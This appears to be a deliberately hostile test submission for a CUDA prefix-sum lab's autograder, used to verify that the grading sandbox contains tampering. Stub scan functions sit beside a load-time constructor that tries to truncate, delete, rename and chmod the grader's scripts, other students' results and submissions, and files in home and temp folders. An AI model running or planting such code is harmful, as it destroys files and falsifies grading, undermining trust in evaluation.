/* hostile: write_kit. From a constructor and from its first call, tries to
 * change files it must not: it appends to, truncates, deletes and renames
 * the grader's scripts and tables (harness/check.sh, harness/grade.sh,
 * harness/parent/labs/lab01.c, the Makefile, tests/, build/primlab-results,
 * build/tables/, the grading kit's copies), creates build/obj/x.d, writes
 * into $HOME, the real /tmp (the runner's scratch), /var/tmp, /dev/shm, the
 * grades folder (another student's results.json, the record .graded.tsv)
 * and the other students' submissions. The paths are the runner's real
 * ones (@@KIT@@ and the like, filled in at staging), which a student would
 * have to guess. Every file it manages to create is named
 * primlab-pwned-write_kit, so that the runner can find it.
 * The grader must give: 0, like the stub, and every file outside the
 * worker's own scratch unchanged (the runner compares checksums and looks
 * for primlab-pwned files).
 */
#include "prefix_sum.h"
#include <cuda_runtime.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const int hx_armed = @@ARMED@@;

static const char *const hx_victims[] = {
    "@@KIT@@/harness/check.sh", "@@KIT@@/harness/grade.sh", "@@KIT@@/harness/parent/labs/lab01.c",
    "@@KIT@@/Makefile", "@@KIT@@/tests/test_hostile.sh", "@@KIT@@/build/primlab-results",
    "@@KIT@@/build/tables/lab01", "@@KIT@@/build/labs/lab01", "@@KIT@@/build/grade-kit/harness/check.sh",
    "@@KIT@@/build/grade-kit/Makefile", "@@KIT@@/build/grade-kit/build/primlab-results",
    "@@GRADES@@/other_student/results.json", "@@GRADES@@/other_student/scores.tsv", "@@GRADES@@/.graded.tsv",
    "@@SUBS@@/sol_a/01-prefix-sum/prefix_sum.cu", "@@SUBS@@/sol_b/01-prefix-sum/prefix_sum.cu",
    "@@TMP@@/canary", "@@HOME@@/.primlab-hostile-canary",
};
static const char *const hx_new_files[] = {
    "@@KIT@@/build/obj/x.d", "@@KIT@@/primlab-pwned-write_kit", "@@KIT@@/build/primlab-pwned-write_kit",
    "@@KIT@@/tests/primlab-pwned-write_kit", "@@GRADES@@/primlab-pwned-write_kit",
    "@@GRADES@@/other_student/primlab-pwned-write_kit", "@@SUBS@@/primlab-pwned-write_kit",
    "@@TMP@@/primlab-pwned-write_kit", "@@HOME@@/primlab-pwned-write_kit", "/var/tmp/primlab-pwned-write_kit",
    "/dev/shm/primlab-pwned-write_kit", "/run/shm/primlab-pwned-write_kit", "/run/lock/primlab-pwned-write_kit",
    "/dev/mqueue/primlab-pwned-write_kit", "/tmp/primlab-pwned-write_kit", "primlab-pwned-write_kit",
};

static int hx_try_victim(const char *path)
{
    int hits = 0, fd;
    if ((fd = open(path, O_WRONLY | O_APPEND)) >= 0)
        hits += write(fd, "\nprimlab-pwned-write_kit\n", 25) > 0, close(fd);
    if ((fd = open(path, O_WRONLY | O_TRUNC)) >= 0)
        hits++, close(fd);
    char moved[4200];
    snprintf(moved, sizeof moved, "%s.primlab-pwned-write_kit", path);
    hits += rename(path, moved) == 0;
    hits += unlink(path) == 0;
    hits += chmod(path, 0777) == 0;
    return hits;
}

static void hx_write_everything(void)
{
    if (!hx_armed)
        return;
    int hits = 0;
    for (size_t i = 0; i < sizeof hx_victims / sizeof hx_victims[0]; i++) {
        int h = hx_try_victim(hx_victims[i]);
        if (h)
            printf("write_kit: changed %s (%d ways)\n", hx_victims[i], h);
        hits += h;
    }
    for (size_t i = 0; i < sizeof hx_new_files / sizeof hx_new_files[0]; i++) {
        int fd = open(hx_new_files[i], O_WRONLY | O_CREAT | O_TRUNC, 0666);
        if (fd >= 0) {
            hits += write(fd, "primlab-pwned-write_kit\n", 24) > 0;
            close(fd);
            printf("write_kit: created %s\n", hx_new_files[i]);
        }
    }
    hits += mkdir("@@KIT@@/build/primlab-pwned-write_kit.d", 0777) == 0;
    printf("write_kit: %d writes went through (those inside the sandbox's own tmpfs are harmless)\n", hits);
    fflush(stdout);
}

__attribute__((constructor)) static void hx_ctor_write_kit(void) { hx_write_everything(); }

extern "C" void scan_inclusive_block(const int *d_in, int *d_out, int n)
{
    static int once;
    (void)d_in, (void)d_out, (void)n;
    if (!once++)
        hx_write_everything();
}
extern "C" void scan_inclusive(const int *d_in, int *d_out, int n, int *d_scratch) { (void)d_in, (void)d_out, (void)n, (void)d_scratch; }
extern "C" void scan_exclusive(const int *d_in, int *d_out, int n, int *d_scratch) { (void)d_in, (void)d_out, (void)n, (void)d_scratch; }
extern "C" void scan_inclusive_threads(const int *d_in, int *d_out, int n, int *d_scratch, int threads) { (void)threads; scan_inclusive(d_in, d_out, n, d_scratch); }
